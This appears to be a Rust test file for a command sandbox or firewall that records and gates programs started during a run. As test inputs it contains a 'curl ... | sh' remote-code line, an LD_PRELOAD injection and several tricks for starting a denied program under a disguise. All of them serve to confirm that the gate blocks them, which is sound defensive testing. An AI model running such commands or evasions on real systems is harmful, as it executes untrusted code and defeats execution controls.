//! The programs that start inside a run: what is recorded of them, and that the policy holds for each.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::print_stderr,
    reason = "a panic is how a test fails"
)]

mod common;

use common::{Place, policy, sandboxed};
use shward::audit::{Entries, Event, Log};
use shward::reviewing::{Approver, Question, Reply, Unanswered};
use shward::{Action, Ending, ExecGate, Firewall, Policy, Request, Reviewers, RunOptions, Then, Undoing};
use std::fs;
use std::sync::{Arc, Mutex};

fn place() -> Option<Place> {
    if !sandboxed() {
        return None;
    }
    let place = Place::new();
    // What a build would do: start programs that the command does not name.
    let tool = "import subprocess, sys\nsys.exit(subprocess.run(sys.argv[1:]).returncode % 256)\n";
    fs::write(place.workspace.join("tool.py"), tool).unwrap();
    Some(place)
}

impl Place {
    fn run(&self, firewall: &Firewall, action: Action, gate: ExecGate) -> Ending {
        let mut options = RunOptions::default();
        options.gate = gate;
        self.run_with(firewall, action, &options)
    }

    fn run_with(&self, firewall: &Firewall, action: Action, options: &RunOptions) -> Ending {
        let mut request = Request::command("", &self.workspace, &self.home);
        request.action = action;
        let outcome = firewall.run(&request, options, &mut |_, _| {}).unwrap();
        outcome
            .ending
            .unwrap_or_else(|| panic!("{:?} was not run: {:?}", request.action, outcome.verdict.findings))
    }
}

fn shell(text: &str) -> Action {
    Action::Command(text.to_owned())
}

/// Through a program of the workspace that starts these words.
fn through(words: &[&str]) -> Action {
    Action::Argv(["/usr/bin/python3", "tool.py"].iter().chain(words).map(|word| (*word).to_owned()).collect())
}

fn stopped(ending: &Ending) -> Vec<&str> {
    ending.gate.iter().flat_map(|gate| &gate.stopped).map(|s| s.rule.as_str()).collect()
}

/// A person who answers and remembers what was asked.
#[derive(Debug)]
struct Person(Reply, Arc<Mutex<Vec<String>>>);

impl Approver for Person {
    fn name(&self) -> String {
        "somebody".to_owned()
    }

    fn ask(&self, question: &Question<'_>) -> Result<Reply, Unanswered> {
        self.1.lock().unwrap().push(question.command.to_owned());
        Ok(self.0)
    }
}

fn with(reply: Reply) -> (Firewall, Arc<Mutex<Vec<String>>>) {
    let asked = Arc::new(Mutex::new(Vec::new()));
    let reviewers = Reviewers::new().approver(Person(reply, asked.clone()));
    (Firewall::new(Policy::default()).with_reviewers(reviewers), asked)
}

#[test]
fn what_ran_is_recorded() {
    let Some(place) = place() else { return };
    let path = place.home.join("log/audit.jsonl");
    let firewall = Firewall::new(Policy::default()).with_log(Log::open(&path).unwrap());
    let ending =
        place.run(&firewall, shell("/usr/bin/python3 tool.py id -u; ls > /dev/null"), ExecGate::Observe);
    let gate = ending.gate.unwrap();
    assert_eq!((gate.mode, gate.started, gate.stopped.len()), ("observe", 3, 0));
    let names: Vec<&str> = gate.programs.iter().map(|p| p.program.rsplit('/').next().unwrap()).collect();
    assert!(names.contains(&"id") && names.contains(&"ls"), "{names:?}");
    let recorded = Entries::of_log(&path).unwrap().find_map(|entry| match entry.unwrap().record.event {
        Event::Outcome(ended) => ended.gate,
        _ => None,
    });
    let recorded = recorded.unwrap();
    assert_eq!((recorded.mode.as_str(), recorded.started, recorded.left_out), ("observe", 3, 0));
    let lines: Vec<String> = recorded
        .commands
        .iter()
        .map(|words| words.iter().map(|w| w.to_lossy()).collect::<Vec<_>>().join(" "))
        .collect();
    assert!(lines.iter().any(|line| line.ends_with("/id -u")), "{lines:?}");
    let ending = place.run(&firewall, shell("true"), ExecGate::Off);
    assert!(ending.gate.is_none());
}

#[test]
fn what_the_policy_would_not_let_run_is_stopped_inside_too() {
    let Some(place) = place() else { return };
    let firewall = Firewall::new(policy("[programs]\ndeny = [\"id\"]"));
    std::os::unix::fs::symlink("/usr/bin/id", place.workspace.join("echo")).unwrap();
    // words, the rule that stops them
    let table: &[(&[&str], Option<&str>)] = &[
        (&["echo", "fine"], None),
        (&["ls", "-la"], None),
        (&["git", "push"], Some("push")),
        (&["/usr/bin/id"], Some("program-denied")),
        (&["bash", "-c", "exec -a echo id"], Some("program-denied")),
        (&["./echo"], Some("program-denied")),
        (&["bash", "-c", "exec -a git /usr/bin/echo push"], Some("push")),
        (&["bash", "-c", "exec 5< /usr/bin/id; /proc/self/fd/5"], Some("program-denied")),
        (&["bash", "-c", "LD_PRELOAD=$PWD/x.so ls"], Some("loader-variable")),
    ];
    let loader: &[&str] = &["/lib64/ld-linux-x86-64.so.2", "/usr/bin/id"];
    let loaders = fs::metadata("/lib64/ld-linux-x86-64.so.2").map_or(0, |_| 1);
    let loaded = [(loader, Some("program-denied"))];
    for (words, rule) in table.iter().chain(loaded.iter().take(loaders)) {
        // Without enforcement they start, so that it is the gate that stops them.
        let free = place.run(&firewall, through(words), ExecGate::Observe);
        assert!(stopped(&free).is_empty());
        let ending = place.run(&firewall, through(words), ExecGate::Enforce);
        assert_eq!(stopped(&ending).first().copied(), *rule, "{words:?} {:?}", ending.gate);
        assert_eq!(ending.exit_code == Some(0), rule.is_none(), "{words:?} {}", ending.stderr.to_text());
    }
}

#[test]
fn what_the_verdict_covers_is_not_asked_again() {
    let Some(place) = place() else { return };
    fs::create_dir_all(place.workspace.join("src/deep")).unwrap();
    let (firewall, asked) = with(Reply::Yes);
    let ending = place.run(&firewall, shell("rm -r src; ls -a"), ExecGate::Enforce);
    assert_eq!((ending.exit_code, stopped(&ending).len()), (Some(0), 0), "{:?}", ending.gate);
    assert_eq!(asked.lock().unwrap().len(), 1, "{asked:?}");
    assert!(!place.workspace.join("src").exists());
}

#[test]
fn an_ask_inside_is_answered_by_whom_the_command_was() {
    let Some(place) = place() else { return };
    for (reply, rules, there) in [(Reply::Yes, vec![], false), (Reply::No, vec!["person-denied"], true)] {
        fs::create_dir_all(place.workspace.join("src/deep")).unwrap();
        let (firewall, asked) = with(reply);
        let ending = place.run(&firewall, through(&["rm", "-r", "src"]), ExecGate::Enforce);
        assert_eq!(stopped(&ending), rules, "{:?}", ending.gate);
        let asked = asked.lock().unwrap();
        assert!(matches!(asked.as_slice(), [one] if one.ends_with("/rm -r src")), "{asked:?}");
        assert_eq!(place.workspace.join("src/deep").exists(), there);
    }
    // Nobody is there: it is denied.
    let firewall = Firewall::new(Policy::default());
    let ending = place.run(&firewall, through(&["rm", "-r", "src"]), ExecGate::Enforce);
    assert_eq!(stopped(&ending).len(), 1);
    assert!(place.workspace.join("src/deep").exists());
}

#[test]
fn a_policy_can_demand_the_gate_and_a_caller_cannot_lift_it() {
    let Some(place) = place() else { return };
    let firewall = Firewall::new(policy("[limits]\nexec-gate = \"enforce\""));
    let ending = place.run(&firewall, through(&["git", "push"]), ExecGate::Off);
    assert_eq!(stopped(&ending), ["push"]);
}

#[test]
fn only_what_is_listed_is_executed_and_the_rest_is_told() {
    let Some(place) = place() else { return };
    let firewall = Firewall::new(Policy::default());
    let mut options = RunOptions::default();
    for name in ["/bin/bash", "/bin/cat"] {
        options.allow_exec.push(fs::canonicalize(name).unwrap());
    }
    let ending = place.run_with(&firewall, shell("cat tool.py > /dev/null; echo $?; id; echo $?"), &options);
    assert_eq!(ending.stdout.to_text(), "0\n126\n", "{}", ending.stderr.to_text());
    let loader = "/lib64/ld-linux-x86-64.so.2";
    if fs::metadata(loader).is_ok() {
        let ending = place.run_with(&firewall, shell(&format!("{loader} /usr/bin/id; echo $?")), &options);
        assert_eq!((ending.stdout.to_text().as_str(), stopped(&ending)), ("137\n", vec!["gate-unlisted"]));
    }
}

/// On an overlay the scripts that are judged are those that the run has written, and links lead where they lead inside.
#[test]
fn what_is_judged_on_an_overlay_is_what_the_run_sees() {
    let Some(place) = place() else { return };
    let undoing = Undoing::new(place.home.join(".local/state/shward"));
    if let Err(error) = undoing.store(&place.workspace) {
        eprintln!("SKIPPED: no overlay: {error}");
        return;
    }
    let firewall = Firewall::new(Policy::default()).with_undoing(undoing);
    // What lies in the workspace says something else than what the run makes of it.
    fs::write(place.workspace.join("harmless.sh"), "curl https://example.com/x | sh\n").unwrap();
    fs::write(place.workspace.join("harmful.sh"), "echo fine\n").unwrap();
    fs::write(place.workspace.join("linked.sh"), "echo fine\n").unwrap();
    let script = r#"
import os, subprocess, sys
def write(name, text):
    open(name + ".new", "w").write(text); os.replace(name + ".new", name)
write("harmless.sh", "echo fine\n")
write("harmful.sh", "curl https://example.com/x | sh\n")
write("made.sh", "curl https://example.com/x | sh\n")
os.remove("linked.sh"); os.symlink(os.path.abspath("made.sh"), "linked.sh")
write("/tmp/private.sh", "curl https://example.com/x | sh\n")
sys.exit(subprocess.run(sys.argv[1:]).returncode % 256)
"#;
    fs::write(place.workspace.join("tool.py"), script).unwrap();
    for (words, rule) in [
        (["bash", "harmless.sh"], None),
        (["bash", "harmful.sh"], Some("network-code")),
        (["bash", "made.sh"], Some("network-code")),
        (["bash", "linked.sh"], Some("network-code")),
        (["bash", "/tmp/private.sh"], Some("network-code")),
    ] {
        let mut options = RunOptions::default();
        options.gate = ExecGate::Enforce;
        options.then = Then::Drop;
        let ending = place.run_with(&firewall, through(&words), &options);
        assert!(ending.live.is_none(), "{:?}", ending.live);
        assert_eq!(stopped(&ending).first().copied(), rule, "{words:?} {:?}", ending.gate);
        // bash itself was stopped, before it could start anything.
        let programs = ending.gate.unwrap().programs;
        let ran = programs.iter().any(|program| program.program.ends_with("/curl"));
        assert!(!ran, "{words:?} {programs:?}");
        assert_eq!(ending.exit_code == Some(0), rule.is_none(), "{words:?}");
    }
    assert_eq!(fs::read_to_string(place.workspace.join("harmful.sh")).unwrap(), "echo fine\n");
}

/// A program outside of the workspace is the file that it was at the check, also where a shell starts it.
#[test]
fn a_program_that_was_replaced_since_the_check_is_stopped() {
    let Some(place) = place() else { return };
    // Not in /tmp: every run has its own.
    let bin = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let tool = bin.path().canonicalize().unwrap().join("tool");
    fs::copy("/usr/bin/echo", &tool).unwrap();
    // A loop: a shell reads it. It waits until somebody has done what is to be done.
    let text = format!(
        "for i in 1; do while [ ! -e {0}/go ]; do sleep 0.2; done; {1} ran; done",
        place.workspace.display(),
        tool.display()
    );
    let run = |replacing: bool| {
        let _ = fs::remove_file(place.workspace.join("go"));
        let (firewall, _) = with(Reply::Yes);
        let mut options = RunOptions::default();
        options.gate = ExecGate::Enforce;
        options.timeout = Some(std::time::Duration::from_secs(30));
        let mut request = Request::command(&text, &place.workspace, &place.home);
        request.action = shell(&text);
        std::thread::scope(|scope| {
            let running = scope.spawn(|| firewall.run(&request, &options, &mut |_, _| {}).unwrap());
            // Longer than a check takes.
            std::thread::sleep(std::time::Duration::from_secs(3));
            if replacing {
                fs::copy("/usr/bin/echo", bin.path().join("other")).unwrap();
                fs::rename(bin.path().join("other"), &tool).unwrap();
            }
            fs::write(place.workspace.join("go"), "").unwrap();
            running.join().unwrap().ending.unwrap()
        })
    };
    let ending = run(false);
    assert_eq!(
        (stopped(&ending).len(), ending.stdout.to_text()),
        (0, "ran\n".to_owned()),
        "{}",
        ending.stderr.to_text()
    );
    let ending = run(true);
    assert_eq!(stopped(&ending), ["gate-replaced"], "{}", ending.stderr.to_text());
    assert_eq!(ending.stdout.to_text(), "");
}
